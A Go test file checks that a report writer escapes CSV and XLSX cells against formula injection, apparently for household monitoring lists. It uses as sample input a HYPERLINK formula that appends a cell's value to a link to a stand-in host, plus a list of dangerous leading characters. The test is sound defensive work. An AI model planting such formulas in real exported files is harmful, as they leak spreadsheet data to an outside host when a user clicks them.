package write

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestCSVSafe(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"王小明", "王小明"},
		{`=HYPERLINK("http://x/"&A1,"点我")`, `'=HYPERLINK("http://x/"&A1,"点我")`},
		{"+1+2", "'+1+2"},
		{"-1+2", "'-1+2"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"-12.50", "-12.50"}, // a refund is a number
		{"+3", "+3"},
		{"-0.5", "-0.5"},
		{"1-2", "1-2"},
		{"a=b", "a=b"},
		{"＝1", "＝1"}, // a full-width sign is text to every spreadsheet program
	} {
		if got := csvSafe(tc.in); got != tc.want {
			t.Errorf("csvSafe(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// dangerous are the starts of SPEC §8.
var dangerous = []string{"=", "+", "-", "@", "\t", "\r"}

// poisoned returns rows whose every text cell starts with one of the
// dangerous characters, in turn; Money and Int cells stay numbers
// (negative ones included).
func poisoned(cols []Column, rows [][]string) [][]string {
	var out [][]string
	k := 0
	for _, r := range rows {
		r = append([]string(nil), r...)
		for i, c := range cols {
			switch {
			case c.Name == colTownship:
				continue // the routing key stays a township the output has
			case c.Kind == Money:
				r[i] = "-12.50"
			case c.Kind == Int:
				continue
			default:
				r[i] = dangerous[k%len(dangerous)] + `HYPERLINK("http://x/"&A1,"点我")`
				k++
			}
		}
		out = append(out, r)
	}
	return out
}

func TestNoCellRunsAsFormula(t *testing.T) {
	dir := written(t, func(o *Output) {
		for i := range o.Lists {
			l := &o.Lists[i]
			var src [][]string
			switch l.File {
			case "candidates.csv":
				src = candRows
			case "elimination.csv":
				src = elimRows
			case "discrepancies.csv":
				src = discRows
			case "rejects.csv":
				src = rejRows
			}
			l.Rows = rowsOf(l.Columns, poisoned(l.Columns, src))
		}
	})
	for _, name := range []string{"candidates.csv", "elimination.csv", "discrepancies.csv", "rejects.csv"} {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, bom))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		escaped := 0
		for _, rec := range recs[1:] {
			for _, v := range rec {
				if formulaLead(v) {
					t.Errorf("%s: cell %q can run as a formula", name, v)
				}
				if strings.HasPrefix(v, "'") {
					escaped++
				}
				if strings.Contains(v, "12.5") && v != "-12.50" {
					t.Errorf("%s: money %q, want -12.50", name, v)
				}
			}
		}
		if escaped == 0 {
			t.Errorf("%s: no cell escaped: the test fed none", name)
		}
	}
	// workbooks: no <f> anywhere, and the text kept whole
	var books []string
	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err == nil && strings.HasSuffix(p, ".xlsx") {
			books = append(books, p)
		}
		return err
	})
	if len(books) < 4 {
		t.Fatalf("workbooks %v", books)
	}
	for _, p := range books {
		zr, err := zip.OpenReader(p)
		if err != nil {
			t.Fatal(err)
		}
		for _, zf := range zr.File {
			if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
				continue
			}
			rc, _ := zf.Open()
			x, _ := io.ReadAll(rc)
			rc.Close()
			if bytes.Contains(x, []byte("<f>")) || bytes.Contains(x, []byte("<f ")) {
				t.Errorf("%s %s: a formula cell", p, zf.Name)
			}
		}
		zr.Close()
	}
	f := open(t, filepath.Join(dir, "report.xlsx"))
	rs := rows(t, f, "监测对象候选")
	if got := rs[1][3]; got != `-HYPERLINK("http://x/"&A1,"点我")` && !strings.HasSuffix(got, `HYPERLINK("http://x/"&A1,"点我")`) {
		t.Errorf("report 户主姓名 %q: the text is not kept", got)
	}
	if v, _ := f.GetCellValue("监测对象候选", "I2"); v != "-12.5" {
		t.Errorf("report 纯收入 %q, want the number -12.5", v)
	}
}
